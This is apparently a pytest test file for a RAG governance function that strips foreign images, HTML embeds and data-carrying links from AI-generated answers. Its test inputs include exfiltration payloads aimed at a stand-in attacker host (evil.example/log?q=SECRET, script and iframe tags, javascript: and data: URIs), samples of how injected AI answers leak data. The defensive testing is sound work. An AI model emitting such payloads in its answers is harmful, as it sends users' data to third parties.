"""neutralize_exfiltration: images, embeds and data-carrying links in answers are defused."""

from __future__ import annotations

import pytest

from tenantrag.governance.exfiltration import Neutralized, neutralize_exfiltration

ALLOWED = {"handbook.tts.gsa.gov"}


class TestImages:
    @pytest.mark.parametrize(
        ("answer", "expected"),
        [
            ("See ![chart](https://evil.example/log?q=SECRET).", "See [image removed: chart]."),
            ("![](https://evil.example/p.png)", "[image removed]"),
            ('![x](https://evil.example/a.png "title")', "[image removed: x]"),
            ("![x](<https://evil.example/a b.png?d=1>)", "[image removed: x]"),
            (
                "![x][ref]\n\n[ref]: https://evil.example/?q=1",
                "[image removed: x]\n\n[ref]: (link removed)",
            ),
        ],
    )
    def test_images_of_foreign_hosts_are_removed_with_or_without_a_query(
        self, answer: str, expected: str
    ) -> None:
        """Images load by themselves: any foreign image could report that the answer was read."""
        result = neutralize_exfiltration(answer, allowed_hosts=ALLOWED)
        assert result.text == expected
        assert result.removed >= 1

    @pytest.mark.parametrize(
        "tag",
        [
            '<img src="https://evil.example/x.gif?d=1">',
            "<iframe src=https://evil.example></iframe>",
            "<script src='https://evil.example/s.js'></script>",
            "<IMG SRC=https://e.example/p>",
        ],
    )
    def test_html_embeds_are_removed(self, tag: str) -> None:
        """HTML that fetches or runs something is removed whole."""
        assert neutralize_exfiltration(f"Hi {tag} there").text == (
            "Hi [embedded content removed] there"
        )

    def test_images_of_allowed_hosts_stay(self) -> None:
        """The tenant's own sources may be shown."""
        answer = "![logo](https://handbook.tts.gsa.gov/logo.png)"
        assert neutralize_exfiltration(answer, allowed_hosts=ALLOWED) == Neutralized(answer, 0)


class TestLinks:
    @pytest.mark.parametrize(
        ("answer", "expected"),
        [
            ("Use [the form](https://evil.example/f?d=abc).", "Use the form (link removed)."),
            ("Click [here](javascript:alert(1)) now", "Click here (link removed) now"),
            ("[x](data:text/html,hi)", "x (link removed)"),
            ("<https://evil.example/?q=1>", "(link removed)"),
            ("Go to https://evil.example/a?leak=123.", "Go to https://evil.example/a."),
            ("Go to https://evil.example/a#frag", "Go to https://evil.example/a"),
        ],
    )
    def test_links_that_can_carry_data_lose_their_url(self, answer: str, expected: str) -> None:
        """A query, a fragment or a non-web scheme could carry data: the text stays, the URL
        goes (bare URLs lose only the query and fragment)."""
        assert neutralize_exfiltration(answer).text == expected

    @pytest.mark.parametrize(
        "answer",
        [
            "Read [the policy](https://example.org/travel/) [1].",
            "See [travel](https://handbook.tts.gsa.gov/travel/?tab=2#rates).",
            "Relative [link](/travel/) and https://example.org/plain",
            "No links at all, just [1] and [2].",
        ],
    )
    def test_plain_links_and_allowed_hosts_stay(self, answer: str) -> None:
        """Plain links carry nothing; allowed hosts keep their queries; citations stay."""
        assert neutralize_exfiltration(answer, allowed_hosts=ALLOWED) == Neutralized(answer, 0)

    def test_subdomains_of_allowed_hosts_are_allowed(self) -> None:
        """An allowed host covers its subdomains, not look-alike suffixes."""
        ok = "[a](https://docs.handbook.tts.gsa.gov/x?y=1)"
        bad = "[a](https://evilhandbook.tts.gsa.gov.example/x?y=1)"
        assert neutralize_exfiltration(ok, allowed_hosts=ALLOWED).removed == 0
        assert neutralize_exfiltration(bad, allowed_hosts=ALLOWED).removed == 1

    def test_everything_is_counted(self) -> None:
        """The count says how many images, embeds and links were defused."""
        answer = (
            "![a](https://e.example/1) [b](https://e.example/?q=2) https://e.example/?q=3"
            " <img src=x>"
        )
        assert neutralize_exfiltration(answer).removed == 4
